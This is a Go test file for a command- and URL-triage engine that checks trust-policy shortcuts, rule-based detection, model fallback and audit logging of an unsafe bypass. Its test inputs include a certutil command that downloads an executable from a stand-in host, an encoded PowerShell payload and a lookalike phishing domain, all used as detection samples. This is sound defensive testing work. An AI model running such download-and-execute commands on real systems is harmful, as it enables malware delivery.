package triage

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"testing"

	"github.com/triagekit/malguard/pkg/audit"
	"github.com/triagekit/malguard/pkg/config"
	"github.com/triagekit/malguard/pkg/ml"
)

// fakePredictor returns a canned prediction and records every call, so
// tests can assert the model was (or was not) consulted.
type fakePredictor struct {
	prediction ml.Prediction
	err        error
	calls      []string
}

func (f *fakePredictor) Predict(ctx context.Context, kind ml.Kind, text string) (ml.Prediction, error) {
	f.calls = append(f.calls, string(kind)+":"+text)
	if f.err != nil {
		return ml.Prediction{}, f.err
	}
	return f.prediction, nil
}

func testConfig() *config.Config {
	return &config.Config{
		TrustedDomains: []string{"github.com", "google.com"},
		BlockedTLDs:    []string{"ru", "zip", "mov"},
		AllowedSchemes: []string{"http", "https", "ftp"},
		MaxURLLength:   2048,
		MaxCmdLength:   8192,
		ForbiddenChars: ";&|`$><\n\r^%",
	}
}

func TestClassifyURLTrustedShortCircuit(t *testing.T) {
	fake := &fakePredictor{}
	e := New(testConfig(), fake)

	res, err := e.ClassifyURL(context.Background(), "https://gist.github.com/x")
	if err != nil {
		t.Fatal(err)
	}
	if res.Verdict != ml.Benign {
		t.Errorf("verdict = %v, want Benign", res.Verdict)
	}
	if res.Label != "Legitimate" {
		t.Errorf("label = %q, want Legitimate", res.Label)
	}
	if res.Source != SourceTrustPolicy {
		t.Errorf("source = %q, want trust_policy", res.Source)
	}
	if res.TrustState != "trusted" {
		t.Errorf("trust state = %q, want trusted", res.TrustState)
	}
	if len(fake.calls) != 0 {
		t.Errorf("model consulted for a trusted host: %v", fake.calls)
	}
}

func TestClassifyURLDeceptiveShortCircuit(t *testing.T) {
	fake := &fakePredictor{}
	e := New(testConfig(), fake)

	res, err := e.ClassifyURL(context.Background(), "https://accounts.google.com.security-check.help/login")
	if err != nil {
		t.Fatal(err)
	}
	if res.Verdict != ml.Malicious || res.Label != "Malicious" {
		t.Errorf("got %v/%q, want Malicious/Malicious", res.Verdict, res.Label)
	}
	if res.Source != SourceTrustPolicy {
		t.Errorf("source = %q, want trust_policy", res.Source)
	}
	if len(fake.calls) != 0 {
		t.Errorf("model consulted for a deceptive host: %v", fake.calls)
	}
}

func TestClassifyURLUnknownUsesModel(t *testing.T) {
	fake := &fakePredictor{prediction: ml.Prediction{
		Verdict: ml.Suspicious, RawLabel: "Suspicious", Confidence: 0.81,
	}}
	e := New(testConfig(), fake)

	res, err := e.ClassifyURL(context.Background(), "https://example.org/path")
	if err != nil {
		t.Fatal(err)
	}
	if res.Verdict != ml.Suspicious || res.Label != "Suspicious" {
		t.Errorf("got %v/%q, want Suspicious/Suspicious", res.Verdict, res.Label)
	}
	if res.Source != SourceModel {
		t.Errorf("source = %q, want model", res.Source)
	}
	if res.Confidence != 0.81 {
		t.Errorf("confidence = %v, want 0.81", res.Confidence)
	}
	if len(fake.calls) != 1 {
		t.Fatalf("model calls = %d, want 1", len(fake.calls))
	}
	if fake.calls[0] != "url:https://example.org/path" {
		t.Errorf("model saw %q", fake.calls[0])
	}
}

func TestClassifyURLValidationFailure(t *testing.T) {
	fake := &fakePredictor{}
	e := New(testConfig(), fake)

	testCases := []string{
		"javascript:alert(1)",
		"https://malware.ru/x",
		"https://",
	}
	for _, u := range testCases {
		_, err := e.ClassifyURL(context.Background(), u)
		if err == nil {
			t.Errorf("ClassifyURL(%q) should fail validation", u)
			continue
		}
		if !IsValidationError(err) {
			t.Errorf("ClassifyURL(%q) error %v should be a validation error", u, err)
		}
	}
	if len(fake.calls) != 0 {
		t.Errorf("model consulted for invalid URLs: %v", fake.calls)
	}
}

func TestClassifyURLEmptyInput(t *testing.T) {
	e := New(testConfig(), &fakePredictor{})
	_, err := e.ClassifyURL(context.Background(), "   ")
	if !errors.Is(err, ErrEmptyInput) {
		t.Errorf("error = %v, want ErrEmptyInput", err)
	}
}

func TestClassifyCommandBenignRule(t *testing.T) {
	fake := &fakePredictor{}
	e := New(testConfig(), fake)

	res, err := e.ClassifyCommand(context.Background(), "schtasks /query /fo LIST", CommandOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if res.Verdict != ml.Benign || res.Label != "benign" {
		t.Errorf("got %v/%q, want Benign/benign", res.Verdict, res.Label)
	}
	if res.Source != SourceBenignRule {
		t.Errorf("source = %q, want benign_rule", res.Source)
	}
	if len(res.RuleHits) == 0 {
		t.Error("benign rule hit should be reported")
	}
	if len(fake.calls) != 0 {
		t.Errorf("model consulted despite benign rule hit: %v", fake.calls)
	}
}

func TestClassifyCommandMaliciousRule(t *testing.T) {
	fake := &fakePredictor{}
	e := New(testConfig(), fake)

	res, err := e.ClassifyCommand(context.Background(),
		"powershell -enc SQBFAFgA", CommandOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if res.Verdict != ml.Malicious || res.Label != "Malicious" {
		t.Errorf("got %v/%q, want Malicious/Malicious", res.Verdict, res.Label)
	}
	if res.Source != SourceMaliciousRule {
		t.Errorf("source = %q, want malicious_rule", res.Source)
	}
	if len(res.RuleHits) != 1 || res.RuleHits[0] != "PowerShell Encoded Payload" {
		t.Errorf("rule hits = %v", res.RuleHits)
	}
	if len(fake.calls) != 0 {
		t.Errorf("model consulted despite malicious rule hit: %v", fake.calls)
	}
}

func TestClassifyCommandModelFallback(t *testing.T) {
	fake := &fakePredictor{prediction: ml.Prediction{
		Verdict: ml.Benign, RawLabel: "benign", Confidence: 0.93,
	}}
	e := New(testConfig(), fake)

	res, err := e.ClassifyCommand(context.Background(), "xcopy a b", CommandOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if res.Source != SourceModel {
		t.Errorf("source = %q, want model", res.Source)
	}
	if res.Label != "benign" {
		t.Errorf("label = %q, want benign", res.Label)
	}
	if len(fake.calls) != 1 {
		t.Fatalf("model calls = %d, want 1", len(fake.calls))
	}
	if fake.calls[0] != "command:xcopy a b" {
		t.Errorf("model saw %q", fake.calls[0])
	}
}

// With augmentation enabled the model sees the command plus its trailing
// meta-token suffix, never the raw command alone.
func TestClassifyCommandAugmentedText(t *testing.T) {
	fake := &fakePredictor{prediction: ml.Prediction{Verdict: ml.Benign, RawLabel: "benign"}}
	cfg := testConfig()
	cfg.EnableAugmenter = true
	e := New(cfg, fake)

	if _, err := e.ClassifyCommand(context.Background(), "xcopy a b", CommandOptions{}); err != nil {
		t.Fatal(err)
	}
	if len(fake.calls) != 1 {
		t.Fatalf("model calls = %d, want 1", len(fake.calls))
	}
	if fake.calls[0] != "command:xcopy a b " {
		t.Errorf("model saw %q, want trailing separator from augmentation", fake.calls[0])
	}
}

func TestClassifyCommandValidationAndUnsafe(t *testing.T) {
	fake := &fakePredictor{}
	e := New(testConfig(), fake)
	cmd := "powershell -enc SQBFAFgA | clip"

	// The pipe character fails validation in the default mode.
	_, err := e.ClassifyCommand(context.Background(), cmd, CommandOptions{})
	if !IsValidationError(err) {
		t.Fatalf("error = %v, want validation error", err)
	}

	// Unsafe mode skips validation; the rule tier still fires.
	res, err := e.ClassifyCommand(context.Background(), cmd, CommandOptions{Unsafe: true})
	if err != nil {
		t.Fatal(err)
	}
	if res.Source != SourceMaliciousRule {
		t.Errorf("source = %q, want malicious_rule", res.Source)
	}
	if len(fake.calls) != 0 {
		t.Errorf("model should not have been consulted: %v", fake.calls)
	}
}

func TestClassifyCommandModelError(t *testing.T) {
	fake := &fakePredictor{err: ml.ErrModelUnavailable}
	e := New(testConfig(), fake)

	_, err := e.ClassifyCommand(context.Background(), "xcopy a b", CommandOptions{})
	if !errors.Is(err, ml.ErrModelUnavailable) {
		t.Errorf("error = %v, want ErrModelUnavailable", err)
	}
}

// The unsafe bypass must be visible in the audit log even when the request
// ends in an error after validation was skipped.
func TestAuditRecordsUnsafeOnFailure(t *testing.T) {
	path := filepath.Join(t.TempDir(), "audit.jsonl")
	logger, err := audit.New(path)
	if err != nil {
		t.Fatal(err)
	}

	fake := &fakePredictor{err: ml.ErrModelUnavailable}
	e := New(testConfig(), fake)
	e.SetAuditLog(logger)

	// The pipe fails validation in the default mode; unsafe mode bypasses
	// it and the request then fails at the model stage.
	_, err = e.ClassifyCommand(context.Background(), "type notes.txt | sort",
		CommandOptions{Unsafe: true})
	if !errors.Is(err, ml.ErrModelUnavailable) {
		t.Fatalf("error = %v, want ErrModelUnavailable", err)
	}
	if err := logger.Close(); err != nil {
		t.Fatal(err)
	}

	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	var event audit.Event
	if err := json.Unmarshal(bytes.TrimSpace(data), &event); err != nil {
		t.Fatalf("audit line not parseable: %v", err)
	}
	if !event.Unsafe {
		t.Error("error-path audit event should record the unsafe bypass")
	}
	if event.Error == "" {
		t.Error("error-path audit event should carry the failure cause")
	}
}

func TestRuleCheck(t *testing.T) {
	e := New(testConfig(), nil)

	hits := e.RuleCheck("certutil -urlcache -split -f http://evil.example/p.exe p.exe")
	if len(hits) == 0 {
		t.Error("expected a malicious rule hit")
	}
	if hits := e.RuleCheck("ipconfig /all"); len(hits) != 0 {
		t.Errorf("unexpected hits: %v", hits)
	}
}
